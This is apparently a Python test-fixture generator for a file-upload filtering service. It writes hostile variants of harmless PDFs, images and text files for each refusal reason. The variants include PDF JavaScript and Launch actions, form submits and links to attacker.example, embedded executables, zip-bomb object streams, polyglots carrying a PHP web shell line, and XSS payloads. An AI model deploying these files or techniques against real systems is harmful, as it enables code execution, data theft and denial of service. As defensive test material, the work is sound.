"""Creates hostile variants of the harmless files in `sound`. Each file contains one attack. Its folder names the reason for which the service refuses it."""

import io
import sys
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String
from PIL import Image

SOUND, OUT = Path(sys.argv[1]), Path(sys.argv[2])
PLAIN = {"object_stream_mode": ObjectStreamMode.disable}
STREAMS = {"object_stream_mode": ObjectStreamMode.generate}
SCRIPT = "app.alert('hello')"
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"


def write(reason: str, name: str, content: bytes) -> None:
    (OUT / reason).mkdir(parents=True, exist_ok=True)
    (OUT / reason / name).write_bytes(content)


def sound(name: str) -> bytes:
    return (SOUND / name).read_bytes()


def twin(reason: str, name: str, attack, base: str = "reportlab-invoice.pdf", **options) -> None:
    """Adds this attack to the base file, and saves it with these options."""
    with pikepdf.open(SOUND / base) as pdf:
        attack(pdf)
        content = io.BytesIO()
        pdf.save(content, deterministic_id="encryption" not in options, **(options or STREAMS))
        write(reason, f"{name}.pdf", content.getvalue())


def action(kind: str, **more) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def javascript() -> Dictionary:
    return action("JavaScript", JS=String(SCRIPT))


def annotate(pdf: Pdf, **more) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=[50, 50, 200, 100], **more)
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", []), pdf.make_indirect(annotation)])


def field(pdf: Pdf, **more) -> None:
    widget = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=[50, 50, 200, 100], **more
    )
    widget = pdf.make_indirect(widget)
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=[widget])


def by(**entries):
    """Returns an attack that sets entries of the catalog. Each argument is a function, which creates the value for the attacked PDF."""
    return lambda pdf: [pdf.Root.__setattr__(key, make(pdf)) for key, make in entries.items()]


def tree(key: str, name: str, value) -> object:
    return lambda pdf: pdf.Root.__setattr__(
        "Names", Dictionary({f"/{key}": Dictionary(Names=[String(name), pdf.make_indirect(value(pdf))])})
    )


def file(pdf: Pdf, name: str, content: bytes, kind: str = "/application/octet-stream") -> Dictionary:
    stream = pdf.make_stream(content, Type=Name.EmbeddedFile, Subtype=Name(kind))
    return Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))


def outline(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Invoice"), A=action("Launch", F=String("calc.exe"))))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


def media(pdf: Pdf) -> Dictionary:
    return Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, CT=String("video/mp4"), D=file(pdf, "a.mp4", b"video")))


def goto(pdf: Pdf, **more) -> Dictionary:
    return action("GoTo", D=[pdf.pages[0].obj, Name.Fit], **more)


def link(make):
    return lambda pdf: annotate(pdf, Subtype=Name.Link, A=make(pdf))


def other_document(pdf: Pdf) -> Dictionary:
    return action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])


# The functions that add an attack to a PDF. The outer key is the reason of the refusal, the inner key the name of the
# file.
ATTACKS = {
    "javascript": {
        "open-action": by(OpenAction=lambda pdf: javascript()),
        "open-action-by-reference": by(OpenAction=lambda pdf: pdf.make_indirect(javascript())),
        "script-in-a-stream": by(OpenAction=lambda pdf: action("JavaScript", JS=pdf.make_stream(SCRIPT.encode()))),
        "name-tree": tree("JavaScript", "a", lambda pdf: javascript()),
        "before-closing": by(AA=lambda pdf: Dictionary(WC=javascript())),
        "page-opens": lambda pdf: pdf.pages[0].obj.__setattr__("AA", Dictionary(O=javascript())),
        "link": link(lambda pdf: javascript()),
        "after-two-harmless-actions": link(lambda pdf: goto(pdf, Next=Array([goto(pdf, Next=javascript())]))),
        "annotation-visible": lambda pdf: annotate(pdf, Subtype=Name.Link, AA=Dictionary(PV=javascript())),
        "field-keystroke": lambda pdf: field(pdf, AA=Dictionary(K=javascript())),
    },
    "launch": {
        "link": link(lambda pdf: action("Launch", F=String("......calc.exe"))),
        "outline": outline,
    },
    "form-data": {
        "submit": lambda pdf: field(
            pdf, A=action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://attacker.example/")))
        ),
        "import": lambda pdf: field(pdf, A=action("ImportData", F=String("data.fdf"))),
    },
    "other-file": {
        "link": link(other_document),
        "open-action": by(OpenAction=other_document),
        "embedded": link(lambda pdf: action("GoToE", T=Dictionary(R=Name.C, N=String("a.pdf")), D=[0, Name.Fit])),
    },
    "media": {
        "rich-media": lambda pdf: annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
        "movie": lambda pdf: annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi"))),
        "sound": lambda pdf: annotate(pdf, Subtype=Name.Sound, Sound=pdf.make_stream(bytes(8), R=8000)),
        "sound-action": link(lambda pdf: action("Sound", Sound=pdf.make_stream(bytes(8), R=8000))),
        "rendition": lambda pdf: annotate(pdf, Subtype=Name.Screen, A=action("Rendition", OP=0, R=media(pdf))),
    },
    "xfa": {
        "form": by(AcroForm=lambda pdf: Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))),
    },
    "opens-link": {
        "open-action": by(OpenAction=lambda pdf: action("URI", URI=String("https://attacker.example/"))),
    },
    "embedded-file": {
        "program": tree("EmbeddedFiles", "a.exe", lambda pdf: file(pdf, "a.exe", b"MZ\x90\0")),
        "pdf": tree(
            "EmbeddedFiles", "a.pdf", lambda pdf: file(pdf, "a.pdf", sound("fpdf-invoice.pdf"), "/application/pdf")
        ),
        "page": tree("EmbeddedFiles", "a.html", lambda pdf: file(pdf, "a.html", PAGE, "/text/html")),
        "page-declared-as-invoice": tree(
            "EmbeddedFiles", "factur-x.xml", lambda pdf: file(pdf, "factur-x.xml", PAGE, "/text/xml")
        ),
        "annotation": lambda pdf: annotate(
            pdf, Subtype=Name.FileAttachment, FS=pdf.make_indirect(file(pdf, "a.exe", b"MZ"))
        ),
        "associated-file": by(AF=lambda pdf: Array([pdf.make_indirect(file(pdf, "a.zip", b"PK\3\4"))])),
    },
}


def pdfs() -> None:
    for reason, attacks in ATTACKS.items():
        for name, attack in attacks.items():
            twin(reason, f"{name}-plain", attack, **PLAIN)
            twin(reason, f"{name}-in-object-stream", attack, **STREAMS)
    script = ATTACKS["javascript"]["open-action-by-reference"]
    twin(
        "javascript", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS
    )
    twin("javascript", "linearized", script, linearize=True)
    # Add the script to a harmless file of each program. The service accepts that file, so only the script can be the
    # reason for the refusal.
    for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
        twin("javascript", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
    # The replacement has the same length, so the offsets in the file stay valid.
    plain = (OUT / "launch" / "link-plain.pdf").read_bytes()
    write("launch", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
    plain = (OUT / "javascript" / "open-action-plain.pdf").read_bytes()
    write("javascript", "nul-is-white-space.pdf", plain.replace(b"/S /JavaScript", b"/S\0/JavaScript"))
    write("javascript", "appended-update.pdf", update(sound("reportlab-invoice.pdf")))

    twin("encrypted", "with-password", lambda pdf: None, encryption=Encryption(user="secret", owner="o", R=6))
    write("unreadable", "object-stream-of-a-gigabyte.pdf", bomb(bytes(2**20), 1024))
    write("unreadable", "a-million-nested-arrays.pdf", bomb(b"[" * 2**20, 1))


def update(whole: bytes) -> bytes:
    """Appends an incremental update whose new catalog opens a script. The bytes of the old file do not change."""
    with pikepdf.open(io.BytesIO(whole)) as pdf:
        root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    start = whole.rindex(b"startxref") + len(b"startxref")
    old = int(whole[start:].split()[0])
    catalog = f"<< /Type /Catalog /Pages {pages} 0 R /OpenAction << /S /JavaScript /JS ({SCRIPT}) >> >>"
    body = f"{root} 0 obj\n{catalog}\nendobj\n"
    table = f"xref\n{root} 1\n{len(whole):010} 00000 n \ntrailer\n<< /Size {size} /Root {root} 0 R /Prev {old} >>\n"
    return whole + f"{body}{table}startxref\n{len(whole) + len(body)}\n%%EOF\n".encode()


def bomb(piece: bytes, times: int) -> bytes:
    """Writes a PDF whose catalog is in an object stream that was compressed twice. The stream decompresses to `times` copies of `piece`."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 2 40 " + b"<< /Type /Catalog /Pages 2 0 R >>       ")
    packed += b"".join(packer.compress(piece) for _ in range(times)) + packer.flush()
    packed = zlib.compress(packed, 9)
    head = f"/Type /ObjStm /N 2 /First 9 /Filter [/FlateDecode /FlateDecode] /Length {len(packed)}"
    content = b"%PDF-1.7\n"
    offset = len(content)
    content += f"3 0 obj\n<< {head} >>\nstream\n".encode() + packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 0), (2, 3, 0), (2, 3, 1), (1, offset, 0), (1, len(content), 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([at]) for kind, place, at in rows)
    xref = f"4 0 obj\n<< /Type /XRef /Size 5 /W [1 4 1] /Root 1 0 R /Length {len(table)} >>\nstream\n".encode()
    return content + xref + table + f"\nendstream\nendobj\nstartxref\n{len(content)}\n%%EOF\n".encode()


def archive(name: str = "a.txt", content: bytes = b"hello") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as entries:
        entries.writestr(zipfile.ZipInfo(name), content)
    return packed.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def polyglots() -> None:
    png, jpeg, pdf = sound("pillow-rgba.png"), sound("pillow-baseline.jpg"), sound("fpdf-invoice.pdf")
    jar = archive("META-INF/MANIFEST.MF", b"Main-Class: A\n")
    php, program = b"<?php system($_GET[0]);", b"MZ\x90\0" + bytes(60)
    for name, after in {"archive": jar, "page": PAGE, "php": php, "pdf": pdf, "program": program}.items():
        write("after-end", f"png-and-{name}.png", png + after)
        write("after-end", f"jpeg-and-{name}.jpg", jpeg + after)
    write("archive", "in-a-pdf.pdf", pdf.replace(b"\n%%EOF", b"\n%" + jar + b"\n%%EOF"))
    write("archive", "in-a-comment.jpg", jpeg[:2] + segment(0xFE, jar) + jpeg[2:])
    write("archive", "in-a-chunk.png", png[:33] + chunk(b"teXt", jar) + png[33:])
    write("pdf-inside", "in-a-comment.jpg", jpeg[:2] + segment(0xFE, pdf[:900]) + jpeg[2:])
    write("pdf-inside", "in-a-chunk.png", png[:33] + chunk(b"teXt", pdf[:900]) + png[33:])
    write("pdf-inside", "in-text.txt", b"notes\n%PDF-1.7\n")
    write("damaged", "pdf-and-archive.pdf", pdf + jar)
    write("damaged", "pdf-and-page.pdf", pdf + PAGE)
    whole = sound("libreoffice-writer.pdf")
    write("damaged", "cut-off.pdf", whole[: len(whole) // 2])
    write("damaged", "cut-off.png", png[:-20])
    write("damaged", "cut-off.jpg", jpeg[:-20])
    write("not-of-its-type", "archive-and.pdf", jar + pdf)
    write("not-of-its-type", "page-and.pdf", PAGE + pdf)
    write("not-of-its-type", "jpeg.png", jpeg)
    write("not-of-its-type", "png.pdf", png)
    write("not-of-its-type", "webp.jpg", saved("WEBP"))
    write("not-of-its-type", "gif.png", saved("GIF"))
    write("pixels", "120-million.png", saved("PNG", "1", (12_000, 10_000)))
    size = jpeg.index(b"\xff\xc0") + 5
    write("pixels", "3-billion.jpg", jpeg[:size] + b"\xff\xdc\xc0\x00" + jpeg[size + 4 :])


def segment(kind: int, body: bytes) -> bytes:
    return bytes([0xFF, kind]) + (len(body) + 2).to_bytes(2, "big") + body


def saved(kind: str, mode: str = "L", size: tuple[int, int] = (32, 32)) -> bytes:
    content = io.BytesIO()
    Image.new(mode, size).save(content, kind)
    return content.getvalue()


def texts() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    for reason, files in {
        "markup": {
            "page.csv": PAGE,
            "page-after-blanks.txt": b"\xef\xbb\xbf \r\n\t" + PAGE,
            "svg.txt": svg,
            "xml.txt": b"<?xml version='1.0'?>" + svg,
            "script.csv": b"<script>alert(1)</script>;1\r\n",
        },
        "utf-16": {"page.txt": PAGE.decode().encode("utf-16"), "table.csv": "a;ü\r\n".encode("utf-16")},
        "control": {
            "nul.txt": b"a\0b\n",
            "escape-sequence.txt": b"\x1b]0;owned\x07hello\n",
            "program.txt": b"\x7fELF\x02\x01\x01" + bytes(9),
            "archive.csv": archive(),
            "packed.txt": b"\x1f\x8b\x08" + bytes(7),
        },
        "not-utf-8": {"windows-1252.csv": "name;sum\r\nMüller;1\r\n".encode("windows-1252")},
        "empty": {"nothing.txt": b"", "blanks.csv": b" \r\n", "nothing.pdf": b""},
        "name": {
            "page.html": PAGE,
            "drawing.svg": svg,
            "archive.zip": archive(),
            "sheet.xlsx": archive("[Content_Types].xml", b"<Types/>"),
            "picture.gif": saved("GIF"),
            "script.js": b"alert(1)",
            "invoice.pdf.exe": sound("fpdf-invoice.pdf"),
        },
    }.items():
        for name, content in files.items():
            write(reason, name, content)


for make in [pdfs, polyglots, texts]:
    make()
